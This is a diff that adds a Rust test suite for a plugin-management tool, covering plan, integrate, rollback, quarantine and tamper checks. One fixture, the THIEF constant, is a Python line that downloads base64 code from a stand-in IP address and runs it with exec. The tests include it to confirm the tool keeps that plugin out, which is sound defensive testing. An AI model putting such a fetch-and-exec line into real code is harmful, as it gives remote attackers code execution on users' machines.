@@ -1,0 +1,244 @@
+//! Plan, integrate, roll back, isolate: the straight path, and what must be refused.
+
+use std::path::Path;
+
+use serde_json::Value;
+
+use crate::room::{Ran, Room};
+
+const WEATHER: &str = "class Weather:\n    name = \"weather\"\n    version = \"1.0.0\"\n    def execute(self, city):\n        return city\n\n\nPLUGIN_CLASS = Weather\n";
+const MANIFEST: &str = r#"{"name": "forecast", "version": "1.1.0", "entry_point": "main.py:Main",
+ "aetherra_version": "^3.0", "dependencies": {"weather": "^1.0"}}"#;
+const MAIN: &str = "from .parts import unit\n\n\nclass Main:\n    name = \"forecast\"\n\n    def execute(self):\n        return unit()\n";
+const PARTS: &str = "def unit():\n    return 1\n";
+const THIEF: &str = "import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('http://198.51.100.7/x').read()))\nPLUGIN_CLASS = None\n";
+
+/// A project in which everything was looked at.
+fn judged() -> Room {
+    let room = Room::with(&[
+        ("plugins/weather.py", WEATHER),
+        ("plugins/forecast/aetherra-plugin.json", MANIFEST),
+        ("plugins/forecast/main.py", MAIN),
+        ("plugins/forecast/parts.py", PARTS),
+        ("plugins/thief.py", THIEF),
+    ]);
+    judge(&room);
+    room
+}
+
+fn judge(room: &Room) {
+    for command in ["scan", "classify", "security-eval"] {
+        let ran = room.run(&[command, "--exit-zero"]);
+        assert_eq!(ran.code, 0, "{command}: {}{}", ran.stdout, ran.stderr);
+    }
+}
+
+#[track_caller]
+fn data(room: &Room, arguments: &[&str]) -> Value {
+    let document = room.json(arguments);
+    assert_eq!(document["exit_code"], 0, "{document:#}");
+    document["data"].clone()
+}
+
+#[track_caller]
+fn refused(room: &Room, arguments: &[&str], code: i32, why: &str) {
+    let before = tree(room);
+    let ran: Ran = room.run(arguments);
+    assert_eq!(ran.code, code, "{arguments:?}: {}{}", ran.stdout, ran.stderr);
+    assert!(ran.stderr.contains(why) || ran.stdout.contains(why), "{arguments:?}: {}{}", ran.stdout, ran.stderr);
+    assert_eq!(tree(room), before, "{arguments:?} changed what is deployed");
+}
+
+/// What a host would load: the target of the link, and every file below it with its content.
+fn tree(room: &Room) -> Vec<(String, String)> {
+    let current = room.path(".aetherra/current");
+    let Ok(target) = std::fs::read_link(&current) else { return Vec::new() };
+    let mut found = vec![("current".to_owned(), target.display().to_string())];
+    let mut folders = vec![current.join("tree")];
+    while let Some(folder) = folders.pop() {
+        for entry in std::fs::read_dir(&folder).expect("a folder").flatten() {
+            if entry.path().is_dir() {
+                folders.push(entry.path());
+            } else {
+                let name = entry.path().strip_prefix(&current).expect("below").display().to_string();
+                found.push((name, std::fs::read_to_string(entry.path()).expect("text")));
+            }
+        }
+    }
+    found.sort();
+    found
+}
+
+fn steps(plan: &Value) -> Vec<String> {
+    let steps = plan["plan"]["steps"].as_array().expect("steps");
+    steps.iter().map(|step| step["component"].as_str().expect("an id").to_owned()).collect()
+}
+
+#[test]
+fn what_is_good_is_let_in_and_can_be_taken_back() {
+    let room = judged();
+    let plan = data(&room, &["plan"]);
+    assert_eq!(steps(&plan), ["plugins/weather.py", "plugins/forecast"]);
+    let reasons = plan["plan"]["report"]["left_out"].as_array().expect("a list");
+    assert!(reasons.iter().any(|left_out| left_out["component"] == "plugins/thief.py"), "{plan:#}");
+    assert_eq!(data(&room, &["integrate", "--dry-run"])["generation"], Value::Null);
+    assert!(tree(&room).is_empty(), "a rehearsal changes nothing");
+
+    let made = data(&room, &["integrate"]);
+    assert_eq!(made["generation"], 1);
+    assert_eq!(tree(&room).len(), 5);
+    assert!(tree(&room).contains(&("tree/plugins/weather.py".to_owned(), WEATHER.to_owned())));
+    let again = data(&room, &["plan"]);
+    assert!(steps(&again).is_empty(), "{again:#}");
+
+    let token = made["token"].as_str().expect("a token").to_owned();
+    let rehearsed = data(&room, &["rollback", &token, "-n"]);
+    assert_eq!(rehearsed["rollback"]["removed"].as_array().map(Vec::len), Some(2));
+    let back = data(&room, &["rollback", &token]);
+    assert_eq!(back["generation"], 0);
+    assert!(tree(&room).is_empty());
+    refused(&room, &["rollback", &token], 6, "token was spent");
+    let forth = data(&room, &["rollback", back["token"].as_str().expect("a token")]);
+    assert_eq!(forth["generation"], 1, "a rollback can be rolled back");
+    assert_eq!(tree(&room).len(), 5);
+}
+
+#[test]
+fn a_file_that_changed_after_it_was_judged_is_refused() {
+    let room = judged();
+    data(&room, &["plan"]);
+    room.write("plugins/weather.py", format!("{WEATHER}# one more\n"));
+    refused(&room, &["integrate"], 6, "has changed since the plan was made");
+    refused(&room, &["integrate", "-n"], 6, "has changed since the plan was made");
+    std::fs::remove_file(room.path("plugins/weather.py")).expect("it goes");
+    refused(&room, &["integrate"], 6, "weather.py");
+    std::os::unix::fs::symlink("/etc/hostname", room.path("plugins/weather.py")).expect("a link");
+    refused(&room, &["integrate"], 6, "weather.py");
+}
+
+#[test]
+fn a_plan_that_was_edited_is_refused() {
+    let room = judged();
+    let ran = room.run(&["plan", "-o", "json=plan.json"]);
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    let text = std::fs::read_to_string(room.path("plan.json")).expect("the plan");
+    room.write("edited.json", text.replace("\"decision\": \"approve\"", "\"decision\": \"review\""));
+    refused(&room, &["integrate", "edited.json"], 6, "does not match its id");
+    room.write("other.json", "{\"a\": 1}");
+    refused(&room, &["integrate", "other.json"], 2, "no plan");
+    refused(&room, &["integrate", "nowhere.json"], 6, "neither a plan nor a file");
+    assert_eq!(data(&room, &["integrate", "plan.json"])["generation"], 1);
+    refused(&room, &["integrate", "plan.json"], 6, "generation 1 is");
+}
+
+#[test]
+fn a_plan_for_another_generation_is_refused() {
+    let room = judged();
+    let first = data(&room, &["plan", "--only", "weather"]);
+    data(&room, &["integrate"]);
+    let id = first["plan"]["id"].as_str().expect("an id").to_owned();
+    refused(&room, &["integrate", &id], 6, "was expected to be deployed");
+}
+
+#[test]
+fn a_change_in_the_middle_is_undone_by_a_new_generation_unless_it_is_needed() {
+    let room = judged();
+    data(&room, &["plan", "--only", "weather"]);
+    let first = data(&room, &["integrate"]);
+    data(&room, &["plan"]);
+    data(&room, &["integrate"]);
+    let token = first["token"].as_str().expect("a token").to_owned();
+    refused(&room, &["rollback", &token], 6, "came later and needs");
+    let cascaded = data(&room, &["rollback", &token, "--cascade"]);
+    assert_eq!(cascaded["generation"], 3);
+    assert_eq!(cascaded["rollback"]["cascaded"][0], "plugins/forecast");
+    assert_eq!(tree(&room).len(), 1, "only the link is left");
+    assert_eq!(data(&room, &["rollback", "--to", "2"])["generation"], 2);
+    assert_eq!(tree(&room).len(), 5);
+}
+
+#[test]
+fn tokens_of_other_states_and_no_tokens_are_refused() {
+    let (room, other) = (judged(), judged());
+    for room in [&room, &other] {
+        data(room, &["plan"]);
+    }
+    other.write("more.py", "X = 1\n");
+    judge(&other);
+    let made = data(&other, &["integrate"]);
+    refused(&room, &["rollback", made["token"].as_str().expect("a token")], 6, "issued no such token");
+    refused(&room, &["rollback", "nonsense"], 2, "starts with");
+    refused(&room, &["rollback", "--last"], 6, "cannot be undone");
+    refused(&room, &["rollback", "--to", "7"], 6, "no generation 7");
+}
+
+#[test]
+fn what_is_isolated_leaves_the_tree_with_all_that_needs_it() {
+    let room = judged();
+    data(&room, &["plan"]);
+    data(&room, &["integrate"]);
+    let held = data(&room, &["quarantine", "add", "plugins/weather.py", "--reason", "a test", "--move"]);
+    assert_eq!(held["removed"].as_array().map(Vec::len), Some(2), "{held:#}");
+    assert!(!room.path("plugins/weather.py").exists());
+    assert_eq!(tree(&room).len(), 1);
+    let packed: Vec<_> = std::fs::read_dir(room.path(".aetherra/quarantine")).expect("a folder").flatten().collect();
+    assert_eq!(packed.len(), 1);
+    let text = std::fs::read(packed[0].path()).expect("a file");
+    assert!(!text.windows(12).any(|window| window == b"PLUGIN_CLASS"), "a host could still read it");
+    assert_eq!(data(&room, &["quarantine", "list"])["by_state"]["held"], 1);
+    refused(&room, &["quarantine", "release", "7", "--reason", "x"], 6, "has the number 7");
+    data(&room, &["quarantine", "restore", "1", "--reason", "a mistake"]);
+    assert_eq!(std::fs::read_to_string(room.path("plugins/weather.py")).ok().as_deref(), Some(WEATHER));
+    refused(&room, &["quarantine", "release", "1", "--reason", "x"], 6, "restored already");
+}
+
+#[test]
+fn the_sixth_integration_of_an_hour_needs_a_person() {
+    let room = judged();
+    for number in 0..6 {
+        room.write("plugins/weather.py", format!("{WEATHER}# {number}\n"));
+        judge(&room);
+        data(&room, &["plan"]);
+        if number < 5 {
+            data(&room, &["integrate"]);
+        }
+    }
+    refused(&room, &["integrate"], 1, "limit is 5");
+    assert_eq!(data(&room, &["integrate", "--approve", "--by", "ada"])["generation"], 6);
+    let head = room.json(&["generations"]);
+    assert_eq!(head["data"]["current"], 6);
+}
+
+#[test]
+fn a_component_that_does_not_hold_together_is_taken_back() {
+    let room = judged();
+    let broken = MANIFEST.replace("main.py:Main", "main.py:Gone");
+    room.write("plugins/forecast/aetherra-plugin.json", broken);
+    judge(&room);
+    data(&room, &["plan"]);
+    refused(&room, &["integrate"], 7, "does not define");
+    assert_eq!(data(&room, &["generations"])["generations"][0]["state"], "failed");
+    assert!(!room.path(".aetherra/generations/1").exists());
+}
+
+#[test]
+fn the_state_is_checked_before_it_is_used() {
+    let room = judged();
+    data(&room, &["plan"]);
+    data(&room, &["integrate"]);
+    let current = room.path(".aetherra/current");
+    std::fs::remove_file(&current).expect("it goes");
+    std::os::unix::fs::symlink("/etc", &current).expect("a link");
+    assert_eq!(room.run(&["rollback", "--last"]).code, 5);
+    assert_eq!(std::fs::read_link(&current).ok().as_deref(), Some(Path::new("/etc")), "nothing is repaired silently");
+}
+
+#[test]
+fn what_nothing_leads_to_is_cleared_away() {
+    let room = judged();
+    data(&room, &["plan"]);
+    data(&room, &["integrate"]);
+    let rehearsed = data(&room, &["generations", "gc", "-n", "--keep", "0"]);
+    assert_eq!(rehearsed["collected"]["generations"].as_array().map(Vec::len), Some(0), "what is deployed stays");
+    assert_eq!(data(&room, &["generations", "route", "somebody"])["generation"], 1);
+}
